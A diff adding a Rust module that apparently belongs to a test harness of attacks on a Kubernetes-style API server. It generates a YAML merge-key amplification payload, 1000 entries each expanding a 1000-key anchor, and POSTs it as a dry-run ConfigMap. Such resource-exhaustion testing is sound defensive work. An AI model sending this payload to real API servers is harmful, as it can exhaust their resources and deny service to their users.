@@ -1,0 +1,15 @@
+//! YAML in which large maps stand for each other by merge keys, as far as that is unfolded.
+
+use super::{Attack, Request};
+use std::fmt::Write as _;
+
+pub(super) const ATTACK: Attack = Attack { name: "merge-keys", prepare: || Vec::new(), request };
+
+fn request() -> Request {
+    let mut body = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: many}\nx: &x {".to_owned();
+    (0..1000).for_each(|at| write!(body, "k{at}: v,").unwrap());
+    body.push_str("}\n");
+    (0..1000).for_each(|at| writeln!(body, "y{at}: {{<<: *x}}").unwrap());
+    let path = "/api/v1/namespaces/default/configmaps?dryRun=All".to_owned();
+    Request { method: "POST", path, content_type: "application/yaml", body }
+}
